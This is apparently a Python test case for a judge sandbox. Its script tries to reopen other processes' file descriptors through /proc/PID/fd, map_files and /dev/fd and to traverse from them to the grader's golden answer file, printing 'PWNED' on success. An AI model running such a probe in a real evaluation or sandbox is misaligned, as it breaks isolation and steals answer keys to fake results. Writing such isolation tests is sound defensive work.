# Tries: to reopen whatever other processes, and its own process from before, hold open: /proc/PID/fd, map_files, /dev/fd.
# Must get: AC, for it answers honestly afterwards.
import os

for process in ("self", "1", str(os.getppid()), *(str(number) for number in range(2, 50))):
    for folder in ("fd", "map_files"):
        try:
            names = os.listdir(f"/proc/{process}/{folder}")
        except OSError:
            names = [str(number) for number in range(64)] if folder == "fd" else []
        for name in names:
            place = f"/proc/{process}/{folder}/{name}"
            for path in (place, f"{place}/../../../../..@GOLDEN@", f"{place}@GOLDEN@"):
                try:
                    content = os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 4096)
                except OSError:
                    continue
                if b"product" in content:
                    print("PWNED", path, content)
for number in range(64):
    try:
        print("PWNED", open(f"/dev/fd/{number}/../../../../../..@GOLDEN@").read())
    except OSError:
        pass
# @ANSWER@
